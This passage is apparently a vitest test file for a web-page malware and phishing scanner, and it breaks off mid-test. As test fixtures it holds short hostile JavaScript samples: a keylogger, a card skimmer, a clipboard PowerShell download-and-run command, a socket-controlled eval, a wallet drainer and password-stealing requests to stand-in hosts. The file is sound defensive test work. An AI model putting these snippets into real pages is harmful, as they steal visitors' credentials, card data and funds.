import type { RequestListener } from 'node:http';
import fc from 'fast-check';
import { afterAll, afterEach, describe, expect, test } from 'vitest';
import { type Page, type PageInit, pageSchema } from '../src/core/page.ts';
import type { Emission } from '../src/core/scanner.ts';
import { judgeAddress } from '../src/scanners/page/address/address.ts';
import { judgeDomain } from '../src/scanners/page/address/domain.ts';
import { createAnalysis } from '../src/scanners/page/analysis.ts';
import { judgeDocument } from '../src/scanners/page/document/document.ts';
import { createPageScanner } from '../src/scanners/page/index.ts';
import { type Indicator, LAYERS, type LayerVerdict } from '../src/scanners/page/layer.ts';
import { readPage } from '../src/scanners/page/parse.ts';
import { reveal } from '../src/scanners/page/script/decode.ts';
import { COMPLETE, SCRIPT_RULES_SOURCE } from '../src/scanners/page/script/rules.ts';
import { judgeScripts } from '../src/scanners/page/script/scripts.ts';
import { scanWithYara } from '../src/scanners/page/script/yara.ts';
import { judge as judgement, type Verdicts } from '../src/scanners/page/verdict.ts';
import { type Manner, scannerContract } from './contracts/scanner.ts';
import { hostile as hostileSite } from './support/hostile-site.ts';
import { collect, runScanner } from './support/run-scanner.ts';
import { startSite } from './support/site.ts';

const scanner = createPageScanner({ blocklists: null });
afterAll(() => scanner.close?.());

const cleanups: (() => Promise<unknown>)[] = [];
afterEach(async () => {
  for (const cleanUp of cleanups.splice(0).reverse()) await cleanUp();
});

const page = (init: Partial<PageInit> | string, url = 'https://www.garden.example/'): Page =>
  pageSchema.parse(typeof init === 'string' ? { url, html: init } : { url, ...init });
const texts = ({ indicators }: LayerVerdict) => indicators.map(({ text }) => text).join('\n');
const points = ({ indicators }: LayerVerdict) =>
  Math.max(0, ...indicators.map((indicator) => indicator.points));
const documentOf = (init: Parameters<typeof page>[0], url?: string) => {
  const read = page(init, url);
  return judgeDocument(readPage(read), read);
};
const scriptsOf = (code: string, url?: string) => {
  const read = page(`<script>${code}</script>`, url);
  return judgeScripts(readPage(read), read);
};
const verdictOn = async (judged: Page, options: Record<string, unknown> = {}) => {
  const found = await collect(
    scanner,
    { kind: 'page', page: judged },
    { options: { network: false, ...options } },
  );
  expect(found.assessments).toHaveLength(1);
  return { ...found, assessment: found.assessments[0] as (typeof found.assessments)[0] };
};
const judge = (given: Verdicts) => judgement(given).assessment;
const base64 = (text: string) => Buffer.from(text).toString('base64');

describe('the address', () => {
  test.each([
    ['http://203.0.113.9/signin', 'has no name'],
    ['https://www.paypal.com@evil.example/', 'is a user name'],
    ['https://paypal.com.account-check.example/', 'begins with paypal.com'],
    ['https://a.b.c.d.e.f.g.example.com/', '7 levels below'],
    ['https://secure-login-update.example/', 'talks of secure, login, update'],
    ['https://files.example/invoice.pdf.exe', 'second extension'],
    ['https://me.duckdns.org/', 'without an address of their own'],
    ['https://bit.ly/abc', 'only forwards'],
    ['https://shop.example:4444/', 'Port 4444'],
    ['https://my-very-own-pet-shop.example/', '4 hyphens'],
    ['https://xkqzjvwbtrn.example/', 'made by a machine'],
  ])('%s: %s', (url, said) => {
    expect(texts(judgeAddress(url))).toContain(said);
  });

  test.each([
    'https://www.garden.example/a/b?c=d',
    'https://accounts.google.com/signin/v2/identifier?continue=https%3A%2F%2Fmail.google.com',
    'https://www.paypal.com/signin',
    'https://login.microsoftonline.com/common/oauth2/authorize',
    'http://192.168.1.1/login',
    'http://localhost:3000/',
    'https://github.com/paypal/paypal-js',
  ])('%s says nothing', (url) => {
    expect(judgeAddress(url).indicators).toEqual([]);
  });
});

describe('the domain', () => {
  test.each([
    ['https://xn--pypal-4ve.com/', 'PayPal written with letters of another alphabet'],
    ['https://xn--80ak6aa92e.com/', 'Apple written with letters of another alphabet'],
    ['https://paypa1.com/', 'writes PayPal with digits'],
    ['https://rnicrosoft.com/', 'writes Microsoft with digits or pairs'],
    ['https://netfilx.com/', 'one letter away from Netflix'],
    ['https://amazon-verify.com/', 'Amazon with words of a log-in'],
    ['https://securepaypal.com/', 'PayPal with words of a log-in'],
    ['https://google.xyz/', 'Google under another ending'],
    ['https://paypal-login.github.io/', 'PayPal with words of a log-in'],
    ['https://garden.tk/', 'where abuse is common'],
  ])('%s: %s', (url, said) => {
    expect(texts(judgeDomain(url))).toContain(said);
  });

  test.each([
    'https://www.paypal.com/',
    'https://www.amazon.de/',
    'https://www.amazon.co.jp/',
    'https://xn--mnchen-3ya.de/',
    'https://xn--e1afmkfd.xn--p1ai/',
    'https://chance.com/',
    'https://stream.com/',
    'https://purchase.org/',
  ])('%s says nothing', (url) => {
    expect(judgeDomain(url).indicators).toEqual([]);
  });

  test('is not judged where there is none', () => {
    expect(judgeDomain('http://127.0.0.1/')).toMatchObject({ judged: false });
  });
});

describe('the scripts', () => {
  test.each([
    ['a miner', 'var m = new CoinHive.Anonymous("key"); m.start()', 'mines in the browser', 70],
    [
      'a keylogger',
      'let k="";document.addEventListener("keydown",e=>{k+=e.key;if(k.length>20){navigator.sendBeacon("/x",k);k=""}})',
      'records keystrokes',
      50,
    ],
    [
      'a card skimmer',
      'const d={n:document.querySelector("#cardnumber").value,c:document.querySelector("#cvv").value};new Image().src="https://stats-cdn.example/p.gif?d="+btoa(JSON.stringify(d))',
      'reads card data and sends it to stats-cdn.example',
      70,
    ],
    [
      'a command for the clipboard',
      'b.onclick=()=>navigator.clipboard.writeText("powershell -w hidden -c iex(iwr http://x.example/a)")',
      'command for the system into the clipboard',
      50,
    ],
    [
      'a smuggled program',
      'const d="TVqQAAMAAAAEAAAA";const u=URL.createObjectURL(new Blob([atob(d)]));a.href=u;a.download="setup.exe";a.click()',
      'carries a program',
      70,
    ],
    [
      'the packer',
      `eval(function(p,a,c,k,e,d){return p}('0("1")',2,2,'alert|hi'.split('|'),0,{}))`,
      'packed',
      10,
    ],
    ['JSFuck', '[][(![]+[])[+[]]]'.repeat(60), 'brackets only', 40],
    ['dialogs without end', 'while(true){alert("locked")}', 'dialogs without end', 50],
    ['a Telegram bot', 'fetch("https://api.telegram.org/bot1:a/sendMessage")', 'Telegram bot', 70],
    [
      'code by socket',
      'const s=new WebSocket("wss://c2.example");s.onmessage=e=>eval(e.data)',
      'whatever a socket tells',
      50,
    ],
    [
      'keys for a socket',
      'const w=new WebSocket("wss://keys.example");onkeydown=document.onkeypress=e=>w.send(e.key)',
      'sends keystrokes to keys.example',
      60,
    ],
    [
      'a swapped address',
      'document.addEventListener("copy",e=>{e.clipboardData.setData("text/plain","0x1111111111111111111111111111111111111111");e.preventDefault()})',
      'replaces the address of a wallet',
      70,
    ],
    [
      'orders from afar',
      'fetch("/icon.ico").then(r=>r.text()).then(t=>{eval(atob(t.slice(90)))})',
      'fetches something, decodes it, and runs',
      40,
    ],
    [
      'orders from a chain',
      'fetch(rpc,{body:JSON.stringify({method:"eth_call"})}).then(r=>r.json()).then(j=>eval(j.result))',
      'from a block chain',
      50,
    ],
    [
      'a search for guards',
      'd.loadXML("<!DOCTYPE html SYSTEM \\"res://c:/windows/drivers/vmmouse.sys\\">")',
      'looks for anti-virus programs',
      50,
    ],
    [
      'one face for robots',
      'if(navigator.webdriver){document.body.textContent="ok"}else{location.replace(u)}',
      'behaves for robots',
      30,
    ],
    [
      'windows beneath',
      'onclick=()=>{const w=window.open(u);w.blur();window.focus()}',
      'windows beneath the page',
      20,
    ],
    [
      'no way back',
      'history.pushState({},"");onpopstate=function(){location.replace("/again")}',
      'keeps people from leaving',
      30,
    ],
    ['alarms', 'alert("Warning: 7 viruses found")', 'shouts that the computer is infected', 30],
    [
      'a false update',
      'f.innerHTML="Your browser is out of date";a.download="Update.js"',
      'browser is out of date',
      30,
    ],
    [
      "a stranger's program",
      'setTimeout(()=>{location.href="https://files.example/setup.exe"},900)',
      'fetches a program from files.example',
      50,
    ],
    [
      'a frame unseen',
      'const f=document.createElement("iframe");f.src="http://gate.tk/in.cgi?3";f.width=1;f.height=1;b.append(f)',
      'makes a hidden frame of gate.tk',
      45,
    ],
    [
      'an address in base64',
      `const s=document.createElement("script");s.src=atob("${base64('https://cdn.example/stat.js')}")`,
      'hides that it loads code or frames from cdn.example',
      45,
    ],
    [
      'an address backwards',
      `const s=document.createElement("script");s.src="${[...'https://cdn.example/stat.js'].reverse().join('')}".split("").reverse().join("")`,
      'hides that it loads code or frames from cdn.example',
      55,
    ],
    [
      'a drainer',
      'const a=await ethereum.request({method:"eth_requestAccounts"});await c.setApprovalForAll("0x1111111111111111111111111111111111111111",true);ethereum.request({method:"eth_sendTransaction"})',
      'hand over everything',
      50,
    ],
  ])('have %s', async (_what, code, said, atLeast) => {
    const verdict = await scriptsOf(code);
    expect(texts(verdict)).toContain(said);
    expect(points(verdict)).toBeGreaterThanOrEqual(atLeast);
  });

  test.each([
    ['a handler', '<img src=x onerror="new CoinHive.Anonymous(1)">'],
    ['a javascript: URL', '<a href="javascript:new%20CoinHive.Anonymous(1)">x</a>'],
    ['a frame within', '<iframe srcdoc="<script>new CoinHive.Anonymous(1)</script>"></iframe>'],
    ['base64', `<script>eval(atob("${base64('new CoinHive.Anonymous(1)')}"))</script>`],
    [
      'base64 twice',
      `<script>eval(atob("${base64(`eval(atob("${base64('new CoinHive.Anonymous(1)')}"))`)}"))</script>`,
    ],
    [
      'character codes',
      `<script>eval(String.fromCharCode(${[...'new CoinHive.Anonymous(1)'].map((c) => c.charCodeAt(0))}))</script>`,
    ],
    [
      'percent escapes',
      `<script>eval(unescape("${[...'new CoinHive.Anonymous(1)'].map((c) => `%${c.charCodeAt(0).toString(16)}`).join('')}"))</script>`,
    ],
    [
      'backslash escapes',
      `<script>x="${[...'new CoinHive.Anonymous(1)'].map((c) => `\\x${c.charCodeAt(0).toString(16)}`).join('')}"</script>`,
    ],
    ['pieces', '<script>x="new Coin"+"Hive.Anony"+"mous(1)"</script>'],
    [
      'the packer',
      `<script>eval(function(p,a,c,k,e,d){}('0 1.2(3)',4,4,'new|CoinHive|Anonymous|1'.split('|'),0,{}))</script>`,
    ],
    ['an array of strings', `<script>${stringArray(2)}</script>`],
    ['an array of strings that is turned', `<script>${stringArray(5)}</script>`],
    ['an array of strings in the other base64', `<script>${stringArray(3, true)}</script>`],
    [
      'numbers under a key',
      `<script>var q=[${[...'new CoinHive.Anonymous(1)      '].map((c, at) => c.charCodeAt(0) ^ (40 + (at % 5)))}],z="";for(var i=0;i<q.length;i++)z+=String.fromCharCode(q[i]^(40+i%5))</script>`,
    ],
    [
      'numbers under a list of keys',
      `<script>var k=[9,8,7],q=[${[...'new CoinHive.Anonymous(1)      '].map((c, at) => c.charCodeAt(0) ^ (9 - (at % 3)))}];z=q.map((n,i)=>String.fromCharCode(n^k[i%3]))</script>`,
    ],
    [
      'the packer in other quotes',
      `<script>eval(function(p,a,c,k,e,r){}("0 1.2(3)",4,4,"new|CoinHive|Anonymous|1".split("|"),0,{}))</script>`,
    ],
    [
      'an address that is a script',
      `<script src="data:text/javascript;base64,${base64('new CoinHive.Anonymous(1)')}"></script>`,
    ],
  ])('are found in %s', async (_where, html) => {
    const read = page(html);
    expect(texts(await judgeScripts(readPage(read), read))).toContain('mines in the browser');
  });

  test.each([
    [
      'analytics',
      'window.dataLayer=window.dataLayer||[];function gtag(){dataLayer.push(arguments)}gtag("js",new Date())',
    ],
    [
      'shortcuts',
      'document.addEventListener("keydown",e=>{if(e.key==="k"&&e.ctrlKey){open()}});fetch("/api/items")',
    ],
    ['a search box', 'q.addEventListener("keyup",e=>{if(e.key==="Enter")fetch("/search?q="+q.value)})'],
    ['a copy button', 'b.onclick=()=>navigator.clipboard.writeText("npm install thing")'],
    [
      'a payment',
      'const s=Stripe("pk");form.onsubmit=()=>fetch("https://api.stripe.com/v1/tokens",{body:card.value})',
    ],
    ['an export', 'const u=URL.createObjectURL(new Blob([csv]));a.href=u;a.download="table.csv";a.click()'],
    [
      'a terminal',
      'const w=new WebSocket("wss://"+location.host);term.onData(d=>w.send(d));onkeydown=e=>{if(e.key==="F1")help()}',
    ],
    [
      'a copied address',
      'b.onclick=()=>navigator.clipboard.writeText("0x1111111111111111111111111111111111111111")',
    ],
    [
      'a copied selection',
      'document.addEventListener("copy",e=>e.clipboardData.setData("text/plain",getSelection()+" Read more"))',
    ],
    ['a wallet that is asked', 'p.request({method:"eth_call"}).then(r=>show(r))'],
    ['a test for robots', 'if(navigator.webdriver)metrics.robot=true'],
    ['a router', 'onpopstate=()=>render(location.pathname);history.pushState({},"",u)'],
    [
      'a call on the whole screen',
      'b.onclick=()=>d.requestFullscreen();addEventListener("beforeunload",e=>{if(inCall)e.preventDefault()})',
    ],
    ['a notice', 'alert("Saved")'],
    ['its own download', 'b.onclick=()=>{location.href="/setup.exe"}'],
    [
      'a frame of its own',
      'f=document.createElement("iframe");f.src="https://id.garden.example/renew";f.style.display="none"',
    ],
    [
      'a list of words in base64',
      `const words=[${['one', 'two', 'three', 'four', 'five'].map((word) => `"${base64(word)}"`)}]`,
    ],
    [
      'numbers',
      `const table=[${Array.from({ length: 60 }, (_, at) => at)}];String.fromCharCode(table[3]^(40+i%5))`,
    ],
    [
      'a bundle that has all words of a key logger in several parts',
      `on("keydown",e=>{if(e.key==="k")open()});${'function f(a,b){return a*b+1}'.repeat(80)}n+=e.key;${'function f(a,b){return a*b+1}'.repeat(80)}fetch("/api")`,
    ],
    ['data', '</script><script type="application/json">{"x":"new CoinHive.Anonymous(1)"}'],
  ])('of %s say nothing', async (_what, code) => {
    expect((await scriptsOf(code)).indicators).toEqual([]);
  });

  test('that hide harmless code are SUSPICIOUS at most', async () => {
    const names = Array.from({ length: 60 }, (_, at) => `_0x${(0x4a00 + at).toString(16)}`);
    const code = `eval(function(p,a,c,k,e,d){return p}('0',1,1,'x'.split('|'),0,{}));eval(atob("${base64('render(document.body)')}"));${names.map((name) => `var ${name}=1;`).join('')}`;
    const { assessment } = await verdictOn(page(`<p>hello</p><script>${code}</script>`));
    expect(assessment.threatLevel).toBe('SUSPICIOUS');
  });

  test('that are decoded stay where they were', () => {
    expect(reveal(`a(atob("${base64('hello there')}"))`).text).toContain('a(atob("hello there"))');
    expect(reveal('var picture = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ"').hidden).toBe('');
  });
});

describe('YARA', () => {
  const rules =
    'rule whole { condition: true } rule some { strings: $a = "eval(" private $b = /eval\\(/ private condition: any of them }';

  test('says which rules match', async () => {
    expect(await scanWithYara('x eval(y)', rules, 'whole')).toEqual(new Set(['some']));
    expect(await scanWithYara('x', rules, 'whole')).toEqual(new Set());
  });

  test('says so when a text is too much for it, and is fit for the next', async () => {
    await expect(scanWithYara('eval('.repeat(500_000), rules, 'whole')).rejects.toThrow();
    expect(await scanWithYara('eval(', rules, 'whole')).toEqual(new Set(['some']));
  });

  test('refuses rules that it cannot read, and takes ours', async () => {
    await expect(scanWithYara('x', 'rule x {', 'whole')).rejects.toThrow('syntax error');
    expect(await scanWithYara('x', SCRIPT_RULES_SOURCE, COMPLETE)).toEqual(new Set());
  });
});

/** A miner whose words are in an array that was turned. */
function stringArray(turn: number, otherCase = false): string {
  const words = ['createElement', 'div', 'body', 'appendChild', 'CoinHive', 'Anonymous', 'log'];
  const encode = (word: string) => {
    const text = base64(word);
    if (!otherCase) return text;
    return text.replace(/[a-z]/gi, (letter) => (letter < 'a' ? letter.toLowerCase() : letter.toUpperCase()));
  };
  const turned = [...words.slice(-turn), ...words.slice(0, -turn)].map((word) => `'${encode(word)}'`);
  const call = (word: string) => `_0x2b3c('0x${words.indexOf(word).toString(16)}')`;
  return `var _0x1a2b=[${turned}];(function(a,n){while(n--)a.push(a.shift())})(_0x1a2b,${turn});var _0x2b3c=function(i){return atob(_0x1a2b[i-0])};document[${call('createElement')}](${call('div')});document[${call('body')}][${call('appendChild')}](x);new window[${call('CoinHive')}][${call('Anonymous')}](1);console[${call('log')}](1)`;
}

describe('a script that repeats what the rules look for', () => {
  test.each([
    ['words of many rules', 'setApprovalForAll hardwareConcurrency nonce keydown popstate\n'],
    ['recorders of keys', 'keydown;k+=e.key;fetch(k);'],
    ['alarms', 'alert("'],
    ['pipes', 'curl '],
    ['addresses', 'fetch("https://x.example/");document.forms;keydown;'],
    ['arrays', "var _0xaaaa=['ZGl2','Ym9keQ==','ZGl2','Ym9keQ==','ZGl2'];document[_0xbbbb('0x2')];"],
    ['numbers', `[${'1,'.repeat(30)}1];String.fromCharCode(q[i]^(61+i%7));`],
  ])('%s is read to its end soon, or not judged', async (_what, unit) => {
    const code = unit.repeat(2_800_000 / unit.length);
    const content = { ...readPage(page('<p>x</p>')), inline: [{ text: code, event: null }] };
    const start = performance.now();
    const verdict = await judgeScripts(content, { html: '', inlineScripts: [code] }).catch(() => null);
    expect(performance.now() - start).toBeLessThan(10_000);
    // What is judged was read whole: a miner at its end is found.
    const mined = { ...content, inline: [{ text: `${code}\nnew CoinHive.Anonymous(1)`, event: null }] };
    if (verdict?.judged) {
      expect(texts(await judgeScripts(mined, { html: '', inlineScripts: [] }))).toContain(
        'mines in the browser',
      );
    }
  });

  test('is not judged when more of it is hidden than is looked at', async () => {
    const verdict = await scriptsOf(`x=[${`"${base64('var harmless = 1;')}",`.repeat(25_000)}]`);
    expect(verdict.judged).toBe(false);
  });
});

describe('the flow of data', () => {
  const seed = '<textarea id="seed" placeholder="recovery phrase"></textarea>';
  const login = '<form id="f"><input name="email"><input type="password" id="pw"></form>';
  const flowOf = async (html: string) => {
    const read = page(html);
    return judgeScripts(readPage(read), read);
  };
  const bytes = Buffer.from(Array.from({ length: 900 }, (_, at) => (at * 7919 + ((at * at) % 251)) % 256));

  test.each([
    ['a variable', 'const a=pw.value;fetch("https://sink.example/",{method:"POST",body:a})'],
    [
      'a template',
      `fetch(\`https://sink.example/?p=$\{encodeURIComponent(document.querySelector("#pw").value)}\`)`,
    ],
    ['an object and JSON', 'const o={p:pw.value};fetch("https://sink.example/",{body:JSON.stringify(o)})'],
    ['FormData', 'const d=new FormData(f);navigator.sendBeacon("https://sink.example/",d)'],
    [
      'parameters',
      'function a(v){b({v})}function b(d){fetch("https://sink.example/",{body:JSON.stringify(d)})}a(pw.value)',
    ],
    [
      'a result',
      'function get(){return document.getElementById("pw").value}fetch("https://sink.example/?"+get())',
    ],
    [
      'XMLHttpRequest',
      'var x=new XMLHttpRequest;x.open("POST","https://sink.example/");x.send("p="+pw.value)',
    ],
    ['a socket', 'const w=new WebSocket("wss://sink.example/");f.onsubmit=()=>w.send(pw.value)'],
    ['a picture', 'const i=new Image;i.src="https://sink.example/?"+btoa(pw.value)'],
    ['an event', 'f.addEventListener("change",e=>fetch("https://sink.example/?"+e.target.value))'],
    [
      'a callback',
      '[...document.querySelectorAll("input")].map(i=>i.value).forEach(v=>fetch("https://sink.example/?"+v))',
    ],
    ['an encoded address', `fetch(atob("${base64('https://sink.example/')}"),{body:pw.value})`],
    ['an address in pieces', 'var h=["https:/","sink.example","x"].join("/");fetch(h,{body:pw.value})'],
    ['two scripts', 'window.take=()=>pw.value</script><script>fetch("https://sink.example/?"+take())'],
  ])('from a password to another site is followed through %s', async (_how, code) => {
    expect(texts(await flowOf(`${login}<script>${code}</script>`))).toContain(
      'reads passwords and sends them to sink.example',
    );
  });

  test.each([
    ['to the own site', 'fetch("/login",{body:pw.value});fetch("https://stats.example/?page=1")'],
    ['that is only looked at', 'if(pw.value.length<12)fetch("https://stats.example/?short=1")'],
    ['of another field', 'fetch("https://search.example/?q="+document.querySelector("[name=email]").value)'],
    [
      'beside a word',
      'var pass=1,seed=2,recovery=3;document.querySelector("h1").value;fetch("https://stats.example/",{body:pass+seed})',
    ],
    [
      'whose answer is reported',
      'fetch("/login",{body:pw.value}).then(r=>fetch("https://stats.example/?s="+r.status))',
    ],
  ])('%s says nothing', async (_what, code) => {
    expect((await flowOf(`${login}<script>${code}</script>`)).indicators).toEqual([]);
  });

  test('names what is read and where it goes', async () => {
    const { indicators } = await flowOf(
      `${seed}<script>fetch("https://sink.example/",{body:document.all.seed.value||document.getElementById("seed").value})</script>`,
    );
    expect(indicators).toContainEqual({
      points: 72,
      text: 'A script reads the secret words of a wallet and sends them to sink.example.',
      threat: 'phishing',
    });
  });

  test('is told from what is typed into fields that a script writes', async () => {
    const code =
      'b.innerHTML=\'<input id="n" autocomplete="cc-number">\';navigator.sendBeacon("https://sink.example/",document.getElementById("n").value)';
    expect(texts(await flowOf(`<div id="b"></div><script>${code}</script>`))).toContain('reads card data');
  });

  test('into code that cannot be read makes a page SUSPICIOUS', async () => {
    const code = `var k="${bytes.toString('base64')}",r="";for(var i=0,b=atob(k);i<b.length;i++)r+=String.fromCharCode(b.charCodeAt(i)^name.length*i&255);new Function(r)()`;
    const { assessment } = await verdictOn(page(`<p>Roses</p><script>${code}</script>`));
    expect(assessment).toMatchObject({ threatLevel: 'SUSPICIOUS' });
  });

  test('of a picture in base64 says nothing', async () => {
    const code = `document.querySelector("img").src="data:image/png;base64,${bytes.toString('base64')}";var table="${bytes.toString('base64')}";draw(atob(table))`;
    expect((await flowOf(`<img><script>${code}</script>`)).indicators).toEqual([]);
  });
});

describe('escapes of punctuation in HTML that a script writes', () => {
  const written = (html: string) =>
    scriptsOf(
      `document.write(unescape("${html.replace(/[<>" ]/g, (one) => `%${one.charCodeAt(0).toString(16)}`)}"))`,
    );

  test('are judged as if they were written plainly', async () => {
    expect((await written('<script src="https://tags.example/a.js"></script>')).indicators).toEqual([]);
    expect(
      texts(await written('<script src="https://coinhive.com/lib/coinhive.min.js"></script>')),
    ).toContain('for mining');
    expect(texts(await written('<script src="http://198.51.100.7/a.js"></script>'))).toContain(
      'bare address',
    );
  });
});

describe('what cannot be read', () => {
  const noise = (length: number, from = 33, to = 126) =>
    Array.from({ length }, (_, at) =>
      String.fromCharCode(from + ((at * 7919 + ((at * at) % 251)) % (to - from))),
    ).join('');

  test.each([
    ['a script of noise', `<p>Roses</p><script>${noise(900).replaceAll('<', '(')}</script>`],
    [
      'a script cut off in the middle',
      `<p>Roses</p><script>${'function a(b){return b+1}'.repeat(30)}function(</script>`,
    ],
    ['a long script of noise', `<p>Roses</p><script>${noise(60_000).replaceAll('<', '(')}</script>`],
    ['bytes', `<p>${'\ufffd\u0003\ufffdk\ufffd'.repeat(200)}</p>`],
    ['noise without tags', noise(3000).replaceAll('<', '(')],
    ['a text in base64', `<p>${Buffer.from(noise(900)).toString('base64')}</p>`],
  ])('is not BENIGN: %s', async (_what, html) => {
    const { assessment, warnings } = await verdictOn(page(html));
    expect(assessment.threatLevel).toBe('UNKNOWN');
    expect(warnings).toContainEqual({
      code: 'CONTENT_UNREADABLE',
      message: expect.stringMatching(/\w/),
      count: 1,
    });
  });

  test.each([
    ['other letters', `<p>${'漢字を使う文章です。'.repeat(60)}</p>`],
    ['a little base64 in a long text', `<p>${'Roses like sun. '.repeat(60)}${base64('x'.repeat(120))}</p>`],
    ['a handler that returns', '<p>Roses</p><form onsubmit="return check(this)"><input name=q></form>'],
    [
      'a module',
      '<p>Roses</p><script type="module">import a from "./a.js";export default await a()</script>',
    ],
  ])('is told from %s', async (_what, html) => {
    const { assessment, warnings } = await verdictOn(page(html));
    expect({ level: assessment.threatLevel, warnings }).toEqual({ level: 'BENIGN', warnings: [] });
  });

  test('is reported when it is a small part of the page, whose verdict stands', async () => {
    const { assessment, warnings } = await verdictOn(
      page(`<p>Roses</p><script>${'render(1);'.repeat(300)}</script><script>broken(</script>`),
    );
    expect(assessment.threatLevel).toBe('BENIGN');
    expect(warnings).toMatchObject([{ code: 'CONTENT_UNREADABLE', count: 1 }]);
  });
});

describe('a bound that is reached', () => {
  const icons = '<link rel="icon" href="/i.png">';
  const packed = `eval(function(p,a,c,k,e,d){return p}('0(1)',2,2,'f|1'.split('|'),0,{}));`;

  test.each([
    ['icons', icons.repeat(230), 'LIMIT_REACHED', 30, 'BENIGN'],
    ['links', '<a href="/a">a</a>'.repeat(10_007), 'LIMIT_REACHED', 7, 'BENIGN'],
    ['characters of text', `<p>${'Roses. '.repeat(30_000)}</p>`, 'TRUNCATED', 1, 'BENIGN'],
    ['frames', '<iframe src="/a"></iframe>'.repeat(503), 'LIMIT_REACHED', 3, 'UNKNOWN'],
    ['packed scripts', `<script>${packed.repeat(53)}</script>`, 'LIMIT_REACHED', 3, 'UNKNOWN'],
  ])('on %s is reported with its count', async (what, html, code, count, level) => {
    const { assessment, warnings } = await verdictOn(page(`<p>Roses</p>${html}`));
    expect(warnings).toContainEqual({ code, message: expect.stringContaining(what), count });
    expect(assessment.threatLevel).toBe(level);
  });
});

describe('the document', () => {
  const login = (action: string, more = '') =>
    `<title>Members</title>${more}<form action="${action}"><input name="user"><input type="password" name="p"></form>`;

  test.each([
    ['another domain', login('https://collector.example/x.php'), 'which is not of garden.example'],
    ['a bare address', login('http://203.0.113.9/x'), 'bare address 203.0.113.9'],
    ['no encryption', login('http://www.garden.example/x'), 'without encryption'],
    ['a mail address', login('mailto:me@evil.example'), 'sent by mail'],
    ['a Telegram bot', login('https://api.telegram.org/bot1:a/sendMessage'), 'Telegram bot'],
    ['a collector', login('https://formspree.io/f/abc'), 'forwards it to anybody'],
    ['a turned base', login('x', '<base href="https://evil.example/">'), 'turned to evil.example'],
    ['a brand', login('').replace('Members', 'PayPal - Log in'), 'The title says PayPal'],
    [
      "a brand's icon",
      login('', '<link rel="icon" href="https://www.paypal.com/favicon.ico">'),
      'icon is that of',
    ],
    [
      'a hurry',
      login('', 'Your account has been suspended. Verify your identity within 24 hours.'),
      'presses for time',
    ],
    [
      'dead links',
      login('', '<a href="#">a</a><a href="#">b</a><a href="">c</a><a href="javascript:void(0)">d</a>'),
      'lead nowhere',
    ],
    [
      'a wallet',
      '<h1>Enter your recovery phrase</h1><form><textarea name="words"></textarea></form>',
      'secret words',
    ],
    [
      'a hidden frame',
      '<iframe src="http://203.0.113.9/a" width="1" height="1"></iframe>',
      'hidden frame loads from the bare',
    ],
    [
      'clickjacking',
      '<iframe src="https://bank.example/pay" style="opacity:0;position:absolute;width:100%"></iframe>',
      'clickable and not to be seen',
    ],
    ['a forward', '<meta http-equiv="refresh" content="0;url=https://evil.tk/x">', 'forwards to evil.tk'],
    [
      'a paste',
      'Verify you are human. Press Win + R, then Ctrl + V and Enter.',
      'paste something into the system',
    ],
    [
      'a hotline',
      'WARNING: virus detected on your computer. Do not close. Call Windows support +1 (888) 555-0100',
      'number to call',
    ],
    ['an update', 'Your browser is out of date <a href="/u.exe">Update</a>', 'offers a program'],
    [
      'a doubling',
      '<h1>Giveaway</h1><p>Send 0.1 to 5 BTC and get twice as much back. 1BoatSLRHtKNngkdXEeobR76b53LETtpyT</p>',
      'more money back',
    ],
    [
      'promised profits',
      '<p>Guaranteed profits with our trading robot. He invested £200 and made £9,000 in a week.</p><form><input type="email" name="email"><input type="tel" name="phone"></form>',
      'promises profits',
    ],
    [
      'a guard switched off',
      '<p>Disable your antivirus before you install.</p><a href="/setup.zip">Get it</a>',
      'switch off what protects',
    ],
    [
      'a crack',
      '<title>Editor 9 Crack free download</title><a href="https://m.example/a.zip">Get</a>',
      'protection was broken',
    ],
    [
      'pokies in a title',
      `<title>Slot online maxwin</title>${'<a href="https://s.example/">slot gacor</a>'.repeat(12)}`,
      'what spam advertises',
    ],
    [
      'a stranger behind a clear frame',
      '<iframe src="https://ads.example/z" style="position:fixed;width:100%;height:100%;opacity:0"></iframe>',
      'clickable and not to be seen',
    ],
    [
      'steps that are shown later',
      '<h1>Verify you are human</h1><div style="display:none"><p>Press Windows Key + R</p><p>Press Ctrl + V</p></div><script>b.onclick=()=>navigator.clipboard.writeText(t)</script>',
      'paste something into the system',
    ],
    [
      'a sick telephone',
      '<h1>Your iPhone is severely damaged by (13) viruses</h1>',
      'above all that the computer is in danger',
    ],
    [
      'a card asked for in French',
      '<title>ameli.fr - carte Vitale</title><form><input name="numcarte" placeholder="Numéro de carte bancaire"></form>',
      'The title',
    ],
    ['a toll', login('', 'Outstanding toll: $6.99. Pay to avoid a late fee.'), 'presses for time'],
    [
      'spam',
      `<div style="display:none">${'<a href="https://x.example/">cheap viagra</a>'.repeat(5)}</div>`,
      'nobody sees',
    ],
  ])('with %s', (_what, html, said) => {
    expect(texts(documentOf(html))).toContain(said);
  });

  test.each([
    ['a log-in of its own', login('/session'), undefined],
    ['an identity provider', login('https://garden.okta.com/login'), undefined],
    ['its own subdomain', login('https://id.garden.example/login'), undefined],
    [
      "a brand's log-in at home",
      login('/signin').replace('Members', 'PayPal: Log in'),
      'https://www.paypal.com/signin',
    ],
    ['a country of a brand', login('/ap').replace('Members', 'Amazon Anmelden'), 'https://www.amazon.de/ap'],
    [
      'tag managers',
      '<iframe src="https://www.googletagmanager.com/ns.html" width="0" height="0" style="display:none"></iframe>',
      undefined,
    ],
    [
      'software of its own',
      login('').replace('Members', 'Sign in · GitLab'),
      'https://gitlab.garden.example/users/sign_in',
    ],
    ['its mail', login('').replace('Members', 'Webmail login'), 'https://webmail.garden.example/'],
    ['a donation', '<p>Donate BTC: 1BoatSLRHtKNngkdXEeobR76b53LETtpyT</p>', undefined],
    ['a raffle', '<h1>Giveaway</h1><p>Comment below to win a book.</p>', undefined],
    [
      'an adviser',
      '<p>Investing has risks; returns are not guaranteed.</p><form><input type="email" name="email"><input type="tel" name="phone"></form>',
      undefined,
    ],
    ['a notice on scanners', '<p>Some scanners report it; do not turn off your antivirus.</p>', undefined],
    ['its own download', '<meta http-equiv="refresh" content="5;url=/thanks">', undefined],
    [
      'an article about it',
      `${'<p>Phishing pages say your account has been suspended. </p>'.repeat(200)}`,
      undefined,
    ],
  ])('with %s says nothing', (_what, html, url) => {
    expect(documentOf(html, url).indicators).toEqual([]);
  });

  test('is read from the lists where there is no source', () => {
    const verdict = documentOf({
      forms: [{ action: 'https://api.telegram.org/bot1/x', fields: [{ type: 'password' }] }],
      inlineScripts: [],
    });
